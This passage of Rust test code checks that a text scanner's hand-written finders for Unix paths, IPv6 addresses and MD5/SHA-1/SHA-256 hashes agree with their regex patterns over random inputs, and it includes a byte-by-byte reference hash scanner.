        if !case_sensitive_twins {
            scan.lower = None;
        }
        let mut hits = Vec::new();
        scan.run(&mut hits);
        hits
    }

    #[test]
    fn lower_cased_scan_finds_what_the_case_insensitive_patterns_find() {
        for text in random_texts(20_000) {
            assert_eq!(run_scan(&text, true), run_scan(&text, false), "{text:?}");
        }
    }

    #[test]
    fn hand_written_scanners_agree_with_their_patterns() {
        for text in random_texts(20_000) {
            let slashes: Vec<usize> = text.match_indices('/').map(|(i, _)| i).collect();
            let by_hand: Vec<(usize, usize)> = unix_path_spans(text.as_bytes(), &slashes).collect();
            let by_regex: Vec<(usize, usize)> = UNIX_PATH.find_iter(&text).map(|m| (m.start(), m.end())).collect();
            assert_eq!(by_hand, by_regex, "{text:?}");

            // IPv6: the runs the scan looks at hold every address the pattern finds in the text.
            let mut buffers = ScanBuffers::default();
            let (mut by_runs, mut whole) = (Vec::new(), Vec::new());
            Scan::new(&text, None, &mut buffers).ipv6(&mut by_runs);
            let mut scan = Scan::new(&text, None, &mut buffers);
            for m in IPV6.find_iter(&text) {
                scan.ipv6_at(m.start(), m.end(), &mut whole);
            }
            assert_eq!(by_runs, whole, "{text:?}");

            // Hashes: the whole-word scan finds what a scan of every hex run finds.
            let mut by_words = Vec::new();
            Scan::new(&text, None, &mut buffers).hashes(&mut by_words);
            assert_eq!(by_words, hashes_by_runs(&text), "{text:?}");
        }
    }

    /// The previous hash scan, byte by byte over every hex run: the reference for `hashes`.
    fn hashes_by_runs(t: &str) -> Vec<Hit> {
        let b = t.as_bytes();
        let word = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
        let (mut out, mut i) = (Vec::new(), 0);
        while i < b.len() {
            if !b[i].is_ascii_hexdigit() {
                i += 1;
                continue;
            }
            let start = i;
            while i < b.len() && b[i].is_ascii_hexdigit() {
                i += 1;
            }
            let kind = match i - start {
                32 => Md5,
                40 => Sha1,
                64 => Sha256,
                _ => {
                    while i < b.len() && word(b[i]) {
                        i += 1;
                    }
                    continue;
                }
            };
            let before = start.checked_sub(1).map(|j| b[j]);
            let bounded = !before.is_some_and(word) && !b.get(i).is_some_and(|&c| word(c));
            if bounded && b[start..i].iter().any(u8::is_ascii_digit) {
                out.push(Hit::new(kind, lower(&t[start..i]), start, i));
            }
        }
        out
    }
}
